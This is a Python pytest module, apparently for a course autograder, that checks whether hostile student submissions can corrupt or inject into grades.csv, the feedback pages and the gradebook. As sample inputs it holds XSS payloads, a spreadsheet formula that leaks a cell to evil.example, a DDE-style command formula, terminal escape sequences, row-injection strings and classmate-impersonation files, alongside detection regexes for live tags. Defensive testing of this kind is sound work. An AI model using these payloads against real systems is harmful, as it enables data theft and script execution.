"""Hostile text in what the grader writes: grades.csv, feedback, the gradebook (issue 10, red team).

Everything a student controls ends up in a report somewhere: their name (the file's name, or the
one the file claims), their answers, the question ids they invent, the messages of the exceptions
their code raises and the names of the classes it returns. JSON, YAML and Python literals all
accept ``"\\ud800"``, a lone surrogate: a ``str`` that cannot be written as UTF-8, which used to end
the whole run (and lose every later student's row) when the gradebook or a feedback file was
written. Names and answers also carry HTML for the feedback, spreadsheet formulas for grades.csv,
terminal escape sequences, and other students' names.

One grading run (a choice, a numeric and a code question; two jobs) serves every case. Each file
must get its own row with the points it deserves, every honest student keeps theirs, grades.csv
stays a clean table, no feedback file carries a live tag, and no file can claim a classmate's row.
"""
from __future__ import annotations

import csv
import json
import re
import sqlite3
from pathlib import Path

import pytest

from grader import load_bank
from grader.safetext import path_text

from hostile import ROOT, assignment_class, output_text, run_grader
from synthetic import correct_answers, filled_notebook

pytestmark = pytest.mark.usefixtures("sandbox_layers")

QUESTIONS = ["lora-principle", "total-params", "count-params"]
REF = "def count_lora_params(d, k, r):\n    return r * (d + k)\n"
KEY = {"lora-principle": "B", "total-params": 294912}
DEEP = [[[[[[[[[[[[[[[[[[[[[["x"]]]]]]]]]]]]]]]]]]]]]]
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
LIVE_TAG = re.compile(r"<\s*(script|img|svg|iframe|object|embed)", re.I)


def _json(raw: str) -> bytes:
    """JSON text written by hand, so escapes such as \\ud800 reach the parser as they are."""
    return raw.encode()


# file name → (bytes, points it deserves out of 6: choice 1 + numeric 1 + code 4; None: code ungraded)
def _cases(bank) -> dict[str, tuple[bytes, float]]:
    good = correct_answers(bank)
    nb = lambda cells, **kw: json.dumps(filled_notebook(bank, {**good, **cells}, **kw)).encode()  # noqa: E731
    return {
        # lone surrogates: in the name, an answer, an invented question id, an exception, a class name
        "surrogate_name.json": (_json('{"student": "ana\\ud800", "answers": {"lora-principle": "B", "total-params": 294912}}'), 2),
        "surrogate_answer.json": (_json('{"answers": {"lora-principle": "\\udfff", "total-params": 294912}}'), 1),
        "surrogate_key.json": (_json('{"answers": {"lora-principle": "B", "total-params": 294912, "\\ud83d": 1}}'), 2),
        "surrogate_yaml.yaml": (b'student: "yaml\\udc80"\nanswers: {lora-principle: "\\ud800B", total-params: 294912}\n', 1),
        "raise_surrogate.ipynb": (nb({"count-params": REF + "raise ValueError('\\ud800 <script>alert(1)</script>')\n"}), 6),
        "object_surrogate.ipynb": (nb({"count-params": "Evil = type('\\ud800<img src=x onerror=alert(1)>', (), {})\n"
                                                       "def count_lora_params(d, k, r):\n    return Evil()\n"}), 2),
        "literal_surrogate.ipynb": (nb({"lora-principle": "answer = '\\ud800'"}), 5),
        "surrogate_metadata.ipynb": (nb({}, student="nb\udfff"), 6),
        # markup for the feedback pages
        "xss.json": (json.dumps({"student": "<script>alert('name')</script>", "answers": {
            "lora-principle": "<img src=x onerror=alert(2)>", "total-params": 294912,
            "<svg onload=alert(3)>": "x", "[click](javascript:alert(4))": 1}}).encode(), 1),
        "xss_code.ipynb": (nb({"count-params": REF + "raise RuntimeError('<iframe src=javascript:alert(5)></iframe>')\n"}), 6),
        # formulas for a spreadsheet opening grades.csv
        "formula.json": (json.dumps({"student": '=HYPERLINK("http://evil.example/?leak="&A1,"open")', "answers": {
            "@SUM(1+1)*cmd|' /C calc'!A0": DEEP, **KEY}}).encode(), 2),
        "=cmd.json": (json.dumps({"answers": KEY}).encode(), 2),
        "new\nline,6,6,100.00,true.json": (json.dumps({"answers": KEY}).encode(), 2),  # a file name is a student's too
        # terminal escapes, NUL, CR/LF that try to add a row, bidi overrides
        "control.json": (json.dumps({"student": "\x1b[31mred\x1b]0;pwned\x07\x00\r\nbob,6,6,100.00,true\u202egpj.exe",
                                     "answers": {"lora-principle": "B\x1b[2J", "total-params": 294912}}).encode(), 1),
        # a reason as long as the file: giant invented ids, thousands of repeated cells
        "giant_ids.ipynb": (json.dumps({"cells": [{"cell_type": "code", "source": f"# answer: {'q' * 20_000}{i}\nanswer = 1"}
                                                  for i in range(300)] + filled_notebook(bank, good)["cells"]}).encode(), 6),
        "many_duplicates.ipynb": (json.dumps({"cells": filled_notebook(bank, good)["cells"] * 1500}).encode(), 6),
        # somebody else's name
        "mallory.json": (json.dumps({"student": "zz_honest", "answers": {"lora-principle": "A"}}).encode(), 0),
        "mallory_nb.ipynb": (nb({"count-params": "def count_lora_params(d, k, r):\n    return None\n"}, student="zz_honest"), 2),
        "ZZ_HONEST.json": (json.dumps({"answers": {"lora-principle": "A"}}).encode(), 0),  # one name on macOS's disks
        "twin_a.json": (json.dumps({"student": "twin", "answers": KEY}).encode(), 2),  # same content, same claim
        "twin_b.json": (json.dumps({"student": "twin", "answers": KEY}).encode(), 2),
        "zz_honest.ipynb": (nb({}), 6),
    }


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    bank, _, bank_path, subs, out = assignment_class(tmp_path_factory, "hostile-reports", QUESTIONS,
                                                     {"count-params": {"timeout_s": 10, "memory_mb": 256}})
    cases = _cases(bank)
    for name, (raw, _) in cases.items():
        (subs / name).write_bytes(raw)
    with open(bytes(subs) + b"/bytes_\xff\xfe.json", "wb") as handle:  # a file name that is not UTF-8
        handle.write(json.dumps({"answers": KEY}).encode())
    proc = run_grader("grade", "--bank", str(bank_path), "--out", str(out), "--jobs", "2", "--no-progress", str(subs),
                      memory_mb=3072)
    with (out / "attempts.csv").open(newline="", encoding="utf-8") as handle:  # one row per file graded
        rows = list(csv.DictReader(handle))
    return {"bank": bank, "cases": cases, "proc": proc, "rows": rows, "out": out, "bank_path": bank_path, "subs": subs}


def _row(graded, name: str) -> dict:
    found = [r for r in graded["rows"] if Path(r["file"]).name == path_text(name)]  # as grades.csv writes it
    assert len(found) == 1, (name, [r["file"] for r in graded["rows"]])
    return found[0]


def test_the_run_finishes_with_a_row_for_every_file(graded):
    proc, rows = graded["proc"], graded["rows"]
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-3000:]
    assert len(rows) == len(graded["cases"]) + 1  # and the file whose name is not UTF-8
    assert not any("internal error" in r["reason"] for r in rows), [r["reason"] for r in rows]
    assert float(_row(graded, "zz_honest.ipynb")["score"]) == graded["bank"].max_score


@pytest.mark.parametrize("name", sorted(_cases(load_bank(ROOT / "quizzes" / "lora-assignment.yaml").subset(QUESTIONS))))
def test_each_file_scores_what_it_deserves(graded, name):
    row = _row(graded, name)
    assert float(row["score"]) == graded["cases"][name][1], row["reason"]


def test_a_file_name_that_is_not_utf8_still_gets_its_row(graded):
    row = next(r for r in graded["rows"] if "bytes_" in r["file"])
    assert float(row["score"]) == 2 and row["student"].startswith("bytes_")


def test_reasons_and_feedback_stay_readable_sizes(graded):
    """A spreadsheet cell holds 32 767 characters, Python's csv reader 131 072 by default: a reason is a summary."""
    for row in graded["rows"]:
        assert len(row["reason"]) <= 5_000, (row["file"], len(row["reason"]))
    for path in (graded["out"] / "feedback").rglob("*.*"):
        assert path.stat().st_size < 1_000_000, path.name


def test_resume_reads_back_what_the_run_wrote(graded, tmp_path):
    before = (graded["out"] / "attempts.csv").read_bytes()
    proc = run_grader("grade", "--bank", str(graded["bank_path"]), "--out", str(graded["out"]), "--resume", "--no-progress",
                      str(graded["subs"]), memory_mb=2048)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert (graded["out"] / "attempts.csv").read_bytes() == before  # every file was already graded
    assert "already graded" in proc.stdout


def test_grades_csv_is_a_clean_table(graded):
    """No cell a spreadsheet would run as a formula, no control characters, no extra rows."""
    for row in graded["rows"]:
        for column in ("student", "file", "reason"):
            cell = row[column]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            assert not CONTROL.search(cell), (column, cell)
            if column != "reason":
                assert "\n" not in cell and "\t" not in cell, (column, cell)
    assert not any(r["student"].startswith("bob") for r in graded["rows"])


CODE_FENCE = re.compile(r"^(`{3,})python\n.*?^\1$", re.MULTILINE | re.DOTALL)
"""A student's code in Markdown feedback: shown as written, in a fence longer than any backtick run in it."""


def test_feedback_has_no_live_markup_or_control_characters(graded):
    """HTML pages: nowhere. Markdown: nowhere outside the fences that show students' code, whose text is
    never markup (their ``<iframe`` is how the code reads; the HTML page shows it escaped)."""
    files = sorted(p for p in (graded["out"] / "feedback").rglob("*") if p.is_file())
    assert files
    for path in files:
        text = path.read_bytes().decode("utf-8")  # strict: every file is valid UTF-8
        prose = CODE_FENCE.sub("", text) if path.suffix == ".md" else text
        assert not LIVE_TAG.search(prose), (path.name, LIVE_TAG.search(prose).group(0))
        if path.suffix == ".md":
            assert "](javascript:" not in prose.replace(" ", ""), path.name
        assert not CONTROL.search(text), path.name


def test_the_gradebook_holds_every_attempt_as_valid_text(graded):
    with sqlite3.connect(graded["out"] / "gradebook.sqlite") as db:
        students = [s for (s,) in db.execute("SELECT student FROM attempts")]
    assert len(students) == len({(r["student"], r["sha256"]) for r in graded["rows"]})  # a resubmitted file is one attempt
    for student in students:
        student.encode("utf-8")
        assert not CONTROL.search(student), student


def test_no_file_can_claim_a_classmates_row(graded):
    """mallory's files name zz_honest as their student: the file's place, not its content, says whose it is."""
    honest = [r for r in graded["rows"] if r["student"] == "zz_honest"]
    assert len(honest) == 1 and Path(honest[0]["file"]).name == "zz_honest.ipynb"
    with (graded["out"] / "grades.csv").open(newline="", encoding="utf-8") as handle:
        standing = {r["student"]: r for r in csv.DictReader(handle)}
    assert standing["zz_honest"]["attempts"] == "1" and float(standing["zz_honest"]["percent"]) == 100
    for name in ("mallory.json", "mallory_nb.ipynb", "twin_a.json", "twin_b.json"):
        row = _row(graded, name)
        assert row["student"] == Path(name).stem and "names its student" in row["reason"], row


def test_every_row_keeps_its_own_feedback_files(graded):
    """Feedback folders are named after the student: names that differ only in case are one folder on a
    case-insensitive disk (macOS, Windows), so such names get a hash of their own."""
    for suffix in (".md", ".html"):
        names = [str(p.relative_to(graded["out"] / "feedback")).casefold()
                 for p in (graded["out"] / "feedback").rglob("*" + suffix)]
        assert len(names) == len(set(names)) == len(graded["rows"]), sorted(names)


def test_html_and_markdown_still_show_what_the_student_wrote(graded):
    """Escaped, not dropped: the instructor can still read what was submitted."""
    out = graded["out"] / "feedback"
    html_page = next((out / "xss").glob("*.html")).read_text()  # the file names its student <script>alert('name')…
    assert "&lt;script&gt;alert(" in html_page
    markdown = next((out / "xss_code").glob("*.md")).read_text()
    assert "iframe" in markdown and "RuntimeError" in markdown
    code_page = next((out / "xss_code").glob("*.html")).read_text()  # the code shown, escaped
    assert "RuntimeError" in code_page and "&lt;iframe src=javascript:alert(5)&gt;" in code_page
    assert "\ufffd" in output_text(graded["out"])  # the lone surrogates, replaced
